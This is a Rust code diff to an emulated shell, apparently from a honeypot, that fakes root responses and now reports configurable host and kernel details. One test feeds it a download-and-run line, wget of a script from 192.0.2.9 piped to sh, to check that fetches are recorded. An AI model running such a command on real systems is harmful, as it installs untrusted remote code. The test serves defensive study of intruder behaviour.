@@ -9,6 +9,16 @@ const MAX_DEPTH: usize = 4;
 const MAX_COMMANDS: usize = 64;
 const MAX_OUTPUT: usize = 8 * 1024;
 
+/// What `uname` says in a container: its name, and the machine's kernel.
+#[derive(Debug, Clone, Default)]
+pub(super) struct Place {
+    pub(super) host: String,
+    pub(super) kernel: Kernel,
+}
+
+/// Release and build of a kernel.
+pub(super) type Kernel = (&'static str, &'static str);
+
 /// What a command does.
 #[derive(Debug, Clone, Default)]
 pub(super) struct Ran {
@@ -33,22 +43,22 @@ pub(super) fn is_shell(words: &[String]) -> bool {
     }
 }
 
-/// Runs a command in the container of this host name.
-pub(super) fn run(words: &[String], host: &str) -> Ran {
+/// Runs a command in this container.
+pub(super) fn run(words: &[String], place: &Place) -> Ran {
     let mut shell =
-        Shell { host, ran: Ran { runs: Some(Duration::from_millis(300)), ..Ran::default() }, left: MAX_COMMANDS };
+        Shell { place, ran: Ran { runs: Some(Duration::from_millis(300)), ..Ran::default() }, left: MAX_COMMANDS };
     shell.command(words, 0);
     shell.ran.output.truncate(MAX_OUTPUT);
     shell.ran
 }
 
 /// Runs a line that was typed.
-pub(super) fn run_line(line: &str, host: &str) -> Ran {
-    run(&["sh".to_owned(), "-c".to_owned(), line.to_owned()], host)
+pub(super) fn run_line(line: &str, place: &Place) -> Ran {
+    run(&["sh".to_owned(), "-c".to_owned(), line.to_owned()], place)
 }
 
 struct Shell<'a> {
-    host: &'a str,
+    place: &'a Place,
     ran: Ran,
     left: usize,
 }
@@ -107,8 +117,12 @@ impl Shell<'_> {
             "id" => self.say("uid=0(root) gid=0(root) groups=0(root),1(bin),2(daemon),3(sys),4(adm),6(disk),10(wheel),11(floppy),20(dialout),26(tape),27(video)\n"),
             "whoami" => self.say("root\n"),
             "pwd" => self.say("/\n"),
-            "hostname" => self.say(&format!("{}\n", self.host)),
-            "uname" if argument(0) == "-a" => self.say(&format!("Linux {} 5.4.0-150-generic #167-Ubuntu SMP Mon May 15 17:35:05 UTC 2023 x86_64 Linux\n", self.host)),
+            "hostname" => self.say(&format!("{}\n", self.place.host)),
+            "uname" if argument(0) == "-a" => {
+                let Place { host, kernel: (release, build) } = self.place;
+                self.say(&format!("Linux {host} {release} {build} x86_64 Linux\n"));
+            }
+            "uname" if argument(0) == "-r" => self.say(&format!("{}\n", self.place.kernel.0)),
             "uname" if argument(0) == "-m" => self.say("x86_64\n"),
             "uname" => self.say("Linux\n"),
             "nproc" => self.say("4\n"),
@@ -120,7 +134,7 @@ impl Shell<'_> {
             }
             "ls" => self.say("bin\ndev\netc\nhome\nlib\nmedia\nmnt\nopt\nproc\nroot\nrun\nsbin\nsrv\nsys\ntmp\nusr\nvar\n"),
             "ps" => self.say("PID   USER     TIME  COMMAND\n    1 root      0:00 /bin/sh\n    7 root      0:00 ps\n"),
-            "env" | "printenv" => self.say(&format!("HOSTNAME={}\nSHLVL=1\nHOME=/root\nPATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin\nPWD=/\n", self.host)),
+            "env" | "printenv" => self.say(&format!("HOSTNAME={}\nSHLVL=1\nHOME=/root\nPATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin\nPWD=/\n", self.place.host)),
             "cat" => arguments.iter().filter(|word| !word.starts_with(['-', '>'])).for_each(|path| self.cat(path)),
             "sleep" => match argument(0).trim_end_matches('s').parse() {
                 Ok(seconds) => self.takes(Duration::from_secs(seconds)),
@@ -146,7 +160,7 @@ impl Shell<'_> {
     fn cat(&mut self, path: &str) {
         let trimmed = path.trim_start_matches("/mnt").trim_start_matches("/host");
         match trimmed {
-            "/etc/hostname" => self.say(&format!("{}\n", self.host)),
+            "/etc/hostname" => self.say(&format!("{}\n", self.place.host)),
             "/etc/os-release" => self.say("NAME=\"Alpine Linux\"\nID=alpine\nVERSION_ID=3.14.10\nPRETTY_NAME=\"Alpine Linux v3.14\"\nHOME_URL=\"https://alpinelinux.org/\"\nBUG_REPORT_URL=\"https://bugs.alpinelinux.org/\"\n"),
             "/etc/passwd" => self.say("root:x:0:0:root:/root:/bin/ash\nbin:x:1:1:bin:/bin:/sbin/nologin\ndaemon:x:2:2:daemon:/sbin:/sbin/nologin\nnobody:x:65534:65534:nobody:/:/sbin/nologin\n"),
             "/etc/shadow" => self.say("root:!::0:::::\nbin:!::0:::::\ndaemon:!::0:::::\nnobody:!::0:::::\n"),
@@ -215,7 +229,7 @@ mod tests {
     use super::*;
 
     fn output(line: &str) -> String {
-        String::from_utf8(run_line(line, "c0ffee").output).unwrap()
+        String::from_utf8(run_line(line, &Place { host: "c0ffee".to_owned(), ..Place::default() }).output).unwrap()
     }
 
     #[test]
@@ -230,12 +244,12 @@ mod tests {
         ] {
             assert_eq!(output(line), expected, "{line}");
         }
-        assert_eq!(run_line("sleep 5", "").runs, Some(Duration::from_millis(5_300)));
+        assert_eq!(run_line("sleep 5", &Place::default()).runs, Some(Duration::from_millis(5_300)));
     }
 
     #[test]
     fn what_is_fetched_is_known() {
-        let ran = run_line("wget -q http://192.0.2.9/x.sh -O- | sh; curl -sL 192.0.2.9/y", "");
+        let ran = run_line("wget -q http://192.0.2.9/x.sh -O- | sh; curl -sL 192.0.2.9/y", &Place::default());
         assert_eq!(
             ran.fetches,
             [("http://192.0.2.9/x.sh", "wget"), ("192.0.2.9/y", "curl")]
@@ -252,6 +266,6 @@ mod tests {
                 break;
             }
         }
-        assert!(run_line(&line, "").output.len() <= MAX_OUTPUT);
+        assert!(run_line(&line, &Place::default()).output.len() <= MAX_OUTPUT);
     }
 }
